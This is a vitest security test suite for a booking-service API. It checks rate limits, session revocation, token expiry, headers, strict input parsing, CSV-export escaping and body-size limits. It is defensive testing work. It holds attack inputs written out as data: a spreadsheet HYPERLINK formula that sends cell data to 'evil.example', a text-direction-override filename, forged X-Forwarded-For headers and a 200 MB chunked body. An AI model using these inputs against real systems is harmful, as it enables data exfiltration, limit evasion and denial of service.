import { readFileSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import { join } from 'node:path'
import { SignJWT } from 'jose'
import Papa from 'papaparse'
import { afterAll, describe, expect, inject, it } from 'vitest'
import { ADMIN_EMAIL, ADMIN_PASSWORD, apiClient, customerRegistration, newCustomer, uniqueEmail } from '../support/api'
import { newService, tomorrow } from '../support/market'
import { waitUntil } from '../support/jobs'
import { startRedis, startServer, type RunningRedis, type RunningServer } from '../support/processes'

// The attacks of issue 10, retried as written against the real built server.

const count = (statuses: number[], status: number) => statuses.filter(value => value === status).length
const paths = (response: { body: { data?: { issues?: { path: string }[] } } }) => response.body.data?.issues?.map(issue => issue.path) ?? []

async function registered(overrides: Record<string, unknown> = {}) {
  const registration = customerRegistration(overrides)
  expect((await apiClient().post('/api/auth/register', registration)).status).toBe(201)
  return registration
}

describe('sign-in limits under concurrency', () => {
  it('gives 20 parallel wrong passwords for one account 5 tries, then 429; a right password sent after them does not sign in', async () => {
    const { email, password } = await registered()
    const wrong = Array.from({ length: 20 }, () => apiClient().post('/api/auth/login', { email, password: 'wrong password' }))
    const right = new Promise(resolve => setTimeout(resolve, 150)).then(() => apiClient().post('/api/auth/login', { email, password }))
    const statuses = (await Promise.all(wrong)).map(response => response.status)
    expect(count(statuses, 401)).toBe(5)
    expect(count(statuses, 429)).toBe(15)
    const late = await right
    expect(late.status).toBe(429)
    expect(Number(late.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(late.body.token).toBeUndefined()
  })

  it('gives 40 parallel wrong sign-ins from one address at most the 30 of the per-address limit', async () => {
    const client = apiClient()
    const statuses = (await Promise.all(Array.from({ length: 40 }, () => client.post('/api/auth/login', { email: uniqueEmail('spray'), password: 'guess' })))).map(response => response.status)
    expect(count(statuses, 401)).toBe(30)
    expect(count(statuses, 429)).toBe(10)
  })

  it('takes the client from the right of X-Forwarded-For: 35 failures with a forged first entry each still meet the limit', async () => {
    const real = apiClient().address
    const statuses: number[] = []
    for (let attempt = 0; attempt < 35; attempt++) {
      const response = await apiClient().post('/api/auth/login', { email: uniqueEmail('forged'), password: 'guess' }, { headers: { 'x-forwarded-for': `203.0.113.${attempt}, ${real}` } })
      statuses.push(response.status)
    }
    expect(statuses.slice(0, 30).every(status => status === 401)).toBe(true)
    expect(statuses.slice(30).every(status => status === 429)).toBe(true)
  })
})

describe('limits on registration and password change', () => {
  it('lets one address register 10 accounts an hour: 12 parallel registrations give 10 × 201 and 2 × 429 with Retry-After', async () => {
    const client = apiClient()
    const responses = await Promise.all(Array.from({ length: 12 }, () => client.post('/api/auth/register', customerRegistration())))
    const statuses = responses.map(response => response.status)
    expect(count(statuses, 201)).toBe(10)
    expect(count(statuses, 429)).toBe(2)
    expect(Number(responses.find(response => response.status === 429)!.headers.get('retry-after'))).toBeGreaterThan(0)
  })

  it('limits wrong current passwords per account: of 13 in parallel, 5 answer 400, the rest 429, and then the right one too', async () => {
    const { token, registration } = await newCustomer()
    const attempts = Array.from({ length: 13 }, () => apiClient().post('/api/auth/password', { currentPassword: 'wrong password', newPassword: 'a brand new password' }, { token }))
    const statuses = (await Promise.all(attempts)).map(response => response.status)
    expect(count(statuses, 400)).toBe(5)
    expect(count(statuses, 429)).toBe(8)
    const right = await apiClient().post('/api/auth/password', { currentPassword: registration.password, newPassword: 'a brand new password' }, { token })
    expect(right.status).toBe(429)
  })

  it('limits password changes per address across accounts (10 per window)', async () => {
    const accounts = await Promise.all([newCustomer(), newCustomer(), newCustomer()])
    const client = apiClient()
    const statuses: number[] = []
    for (const { token } of accounts) {
      for (let attempt = 0; attempt < 4; attempt++) {
        statuses.push((await client.post('/api/auth/password', { currentPassword: 'wrong password', newPassword: 'a brand new password' }, { token })).status)
      }
    }
    expect(statuses.slice(0, 10).every(status => status === 400)).toBe(true)
    expect(statuses.slice(10)).toEqual([429, 429])
  })
})

describe('sessions end when they should', () => {
  it('refuses the token of a logged-out session by bearer and by cookie, while the other sessions go on', async () => {
    const { client, token, registration } = await newCustomer()
    const otherDevice = await client.login(registration.email, registration.password)
    const logout = await client.post('/api/auth/logout', undefined, { token })
    expect(logout.status).toBe(204)
    expect((await client.get('/api/auth/me', { token })).status).toBe(401)
    expect((await client.get('/api/auth/me', { cookie: `hs_session=${token}` })).status).toBe(401)
    expect((await client.get('/api/auth/me', { token: otherDevice })).status).toBe(200)

    const browser = await client.login(registration.email, registration.password)
    expect((await client.post('/api/auth/logout', undefined, { cookie: `hs_session=${browser}` })).status).toBe(204)
    expect((await client.get('/api/auth/me', { token: browser })).status).toBe(401)
    expect((await client.get('/api/auth/me', { token: otherDevice })).status).toBe(200)
  })

  it('answers a password change with a new token and ends every other session', async () => {
    const { client, token, registration } = await newCustomer()
    const otherDevice = await client.login(registration.email, registration.password)
    const changed = await client.post('/api/auth/password', { currentPassword: registration.password, newPassword: 'a brand new password' }, { token })
    expect(changed.status).toBe(200)
    expect(changed.body.token).not.toBe(token)
    expect((await client.get('/api/auth/me', { token })).status).toBe(401)
    expect((await client.get('/api/auth/me', { token: otherDevice })).status).toBe(401)
    expect((await client.get('/api/auth/me', { token: changed.body.token })).status).toBe(200)
  })

  it('refuses a correctly signed token without an expiry', async () => {
    const { client, token, user } = await newCustomer()
    const claims = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString())
    const secret = new TextEncoder().encode(readFileSync(join(inject('dataDir'), 'jwt-secret'), 'utf8').trim())
    const sign = (withExpiry: boolean) => {
      const jwt = new SignJWT({ role: 'customer', tv: claims.tv }).setProtectedHeader({ alg: 'HS256' }).setSubject(String(user.id)).setJti(crypto.randomUUID()).setIssuedAt()
      return (withExpiry ? jwt.setExpirationTime('1h') : jwt).sign(secret)
    }
    expect((await client.get('/api/auth/me', { token: await sign(true) })).status).toBe(200)
    expect((await client.get('/api/auth/me', { token: await sign(false) })).status).toBe(401)
  })
})

describe('headers', () => {
  it('sends Cache-Control: no-store on every answer with a token or personal data, not on the public catalogue', async () => {
    const { client, token, registration } = await newCustomer()
    const admin = await apiClient().login(ADMIN_EMAIL, ADMIN_PASSWORD)
    const answers = [
      await apiClient().post('/api/auth/login', { email: registration.email, password: registration.password }),
      await client.get('/api/auth/me', { token }),
      await client.get('/api/requests', { token }),
      await client.get('/api/notifications', { token }),
      await client.get('/api/admin/users', { token: admin }),
      await client.get('/api/admin/exports', { token: admin }),
      await client.get('/api/auth/me'),
    ]
    for (const answer of answers) expect(answer.headers.get('cache-control')).toBe('no-store')
    expect((await apiClient().get('/api/categories')).headers.get('cache-control')).not.toBe('no-store')
  })

  it('sends no x-powered-by, and HSTS plus a Secure __Host- cookie when the proxy says HTTPS', async () => {
    const page = await apiClient().get('/')
    expect(page.headers.get('x-powered-by')).toBeNull()
    expect(page.headers.get('strict-transport-security')).toBeNull()

    const { email, password } = await registered()
    const https = { headers: { 'x-forwarded-proto': 'https' } }
    const client = apiClient()
    const login = await client.post('/api/auth/login', { email, password }, https)
    expect(login.status).toBe(200)
    expect(login.headers.get('strict-transport-security')).toMatch(/^max-age=\d{8,}/)
    const cookie = login.headers.get('set-cookie')!
    expect(cookie).toMatch(/^__Host-hs_session=[\w.-]+;/)
    expect(cookie).toMatch(/; Secure/i)
    expect(cookie).toMatch(/; Path=\//i)
    expect(cookie).not.toMatch(/Domain=/i)
    const session = cookie.split(';')[0]!
    expect((await client.get('/api/auth/me', { ...https, cookie: session })).status).toBe(200)
  })
})

describe('input read strictly, never silently changed', () => {
  it('takes ids only in decimal digits, in paths, queries and bodies', async () => {
    const client = apiClient()
    for (const id of ['0x1', '1e0', '+1', '1.0']) {
      const response = await client.get(`/api/services/${encodeURIComponent(id)}`)
      expect(response.status, id).toBe(400)
      expect(paths(response)).toEqual(['id'])
    }
    for (const categoryId of ['0x1', '1e0', '+1', 'true']) {
      const response = await client.get(`/api/services?categoryId=${encodeURIComponent(categoryId)}`)
      expect(response.status, categoryId).toBe(400)
      expect(paths(response)).toEqual(['categoryId'])
    }
    const { token } = await newCustomer()
    for (const serviceId of [true, [1], '0x1', '1e0', '+1', 1.5]) {
      const response = await client.post('/api/requests', { serviceId, scheduledFor: tomorrow(3) }, { token })
      expect(response.status, JSON.stringify(serviceId)).toBe(400)
      expect(paths(response)).toEqual(['serviceId'])
    }
  })

  it('takes page sizes only in decimal digits', async () => {
    for (const pageSize of ['1e2', '0x10', '+5', '5.0', ' 5']) {
      const response = await apiClient().get(`/api/services?pageSize=${encodeURIComponent(pageSize)}`)
      expect(response.status, pageSize).toBe(400)
      expect(paths(response)).toEqual(['pageSize'])
    }
    expect((await apiClient().get('/api/services?pageSize=5')).body.pageSize).toBe(5)
  })

  it('refuses impossible dates, years past 2100 and times without a zone, on that field', async () => {
    const service = await newService()
    const { token } = await newCustomer()
    for (const scheduledFor of ['2027-02-30T10:00:00Z', '9999-01-01T10:00:00Z', '+275760-09-13T00:00:00.000Z', '2027-03-01T10:00:00', '2027-03-01', 1_900_000_000_000]) {
      const response = await apiClient().post('/api/requests', { serviceId: service.id, scheduledFor }, { token })
      expect(response.status, String(scheduledFor)).toBe(400)
      expect(paths(response)).toEqual(['scheduledFor'])
    }
    // A zone offset is honoured, not dropped: 10:00 at +05:30, ten days ahead (inside the booking horizon).
    const day = new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10)
    const offset = await apiClient().post('/api/requests', { serviceId: service.id, scheduledFor: `${day}T10:00:00+05:30` }, { token })
    expect(offset.status).toBe(201)
    expect(offset.body.request.scheduledFor).toBe(`${day}T04:30:00.000Z`)

    const admin = await apiClient().login(ADMIN_EMAIL, ADMIN_PASSWORD)
    for (const from of ['2027-02-30', '2027-02-01T00:00:00', '2101-01-01']) {
      const response = await apiClient().post('/api/admin/exports', { from }, { token: admin })
      expect(response.status, from).toBe(400)
      expect(paths(response)).toEqual(['from'])
    }
  })

  it('refuses names with NUL, control or text-direction characters', async () => {
    for (const name of ['Eve\u0000', 'Eve\u202Egnp.exe', 'Line\nBreak', 'Zero\u2066width']) {
      const response = await apiClient().post('/api/auth/register', customerRegistration({ name }))
      expect(response.status, JSON.stringify(name)).toBe(400)
      expect(paths(response)).toEqual(['name'])
    }
  })
})

describe('CSV export', () => {
  it('writes a multi-line formula remark with a leading quote, so no spreadsheet runs it', async () => {
    const service = await newService()
    const remarks = '=HYPERLINK("http://evil.example/?d="&E2,"Invoice\nopen")'
    const { token } = await newCustomer(apiClient(), { name: '@SUM(1+1)' })
    const created = await apiClient().post('/api/requests', { serviceId: service.id, scheduledFor: tomorrow(4), remarks }, { token })
    expect(created.status).toBe(201)
    const admin = await apiClient().login(ADMIN_EMAIL, ADMIN_PASSWORD)
    const client = apiClient()
    const today = new Date().toISOString().slice(0, 10)
    const queued = await client.post('/api/admin/exports', { status: 'requested', from: today }, { token: admin })
    expect(queued.status).toBe(202)
    const done = await waitUntil(async () => {
      const response = await client.get(`/api/admin/exports/${queued.body.export.id}`, { token: admin })
      return ['done', 'failed'].includes(response.body.export.status) ? response.body.export : undefined
    }, 'the export')
    expect(done.status).toBe('done')
    const csv = (await client.get(`/api/admin/exports/${done.id}/download`, { token: admin })).body as string
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data
    const row = rows.find(candidate => candidate.request_id === String(created.body.request.id))!
    expect(row.remarks).toBe(`'${remarks}`)
    expect(row.customer_name).toBe('\'@SUM(1+1)')
    expect(row.service_name).toBe(service.name)
  })
})

describe('bodies bounded while read', () => {
  let server: RunningServer | undefined
  afterAll(() => server?.stop())

  /** Peak resident memory of a process so far, in bytes (Linux). */
  const peakMemory = (pid: number) => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) * 1024

  /** Streams `total` bytes as a chunked body until the server answers; resolves with its status. */
  function streamChunked(url: string, path: string, total: number, contentType: string) {
    return new Promise<{ status: number, sent: number }>((resolve, reject) => {
      let sent = 0
      let answered = false
      const request = httpRequest(`${url}${path}`, { method: 'POST', headers: { 'content-type': contentType, 'transfer-encoding': 'chunked' } }, (response) => {
        answered = true
        response.resume()
        response.on('end', () => resolve({ status: response.statusCode!, sent }))
      })
      request.on('error', error => (answered ? undefined : reject(error)))
      const chunk = Buffer.alloc(64 * 1024, 'a')
      const pump = () => {
        while (!answered && sent < total) {
          sent += chunk.length
          if (!request.write(chunk)) return request.once('drain', pump)
        }
        if (!answered) request.end()
      }
      pump()
    })
  }

  it('refuses a chunked 200 MB body with 413 without holding it: the server\'s peak memory stays flat', async () => {
    server = await startServer({ REDIS_URL: '' })
    for (let warm = 0; warm < 3; warm++) await apiClient(server.url).post('/api/auth/login', { email: uniqueEmail('warm'), password: 'warm up' })
    const before = peakMemory(server.pid)
    const login = await streamChunked(server.url, '/api/auth/login', 200 * 1024 * 1024, 'application/json')
    const grown = peakMemory(server.pid) - before
    console.info(`[attacks] a chunked 200 MB login body: ${login.status} after ${Math.round(login.sent / 1024 / 1024)} MB sent, peak memory +${Math.round(grown / 1024 / 1024)} MB`)
    expect(login.status).toBe(413)
    expect(grown, `peak memory grew by ${Math.round(grown / 1024 / 1024)} MB`).toBeLessThan(48 * 1024 * 1024)
    const upload = await streamChunked(server.url, '/api/professional/document', 50 * 1024 * 1024, 'multipart/form-data; boundary=x')
    expect(upload.status).toBe(413)
    expect(peakMemory(server.pid) - before).toBeLessThan(48 * 1024 * 1024)
    // The server goes on serving.
    expect((await apiClient(server.url).get('/api/health')).status).toBe(200)
  })
})

describe('Redis down', () => {
  let redis: RunningRedis | undefined
  let server: RunningServer | undefined
  afterAll(async () => {
    await server?.stop()
    await redis?.stop()
  })

  it('keeps counting sign-in failures in the instance\'s memory instead of answering 500', async () => {
    redis = await startRedis()
    server = await startServer({ REDIS_URL: redis.url, TRUST_PROXY: '1' })
    const client = apiClient(server.url)
    const registration = customerRegistration()
    expect((await client.post('/api/auth/register', registration)).status).toBe(201)
    await redis.stop()
    const statuses: number[] = []
    for (let attempt = 0; attempt < 6; attempt++) statuses.push((await apiClient(server.url).post('/api/auth/login', { email: registration.email, password: 'wrong password' })).status)
    expect(statuses).toEqual([401, 401, 401, 401, 401, 429])
  })
})
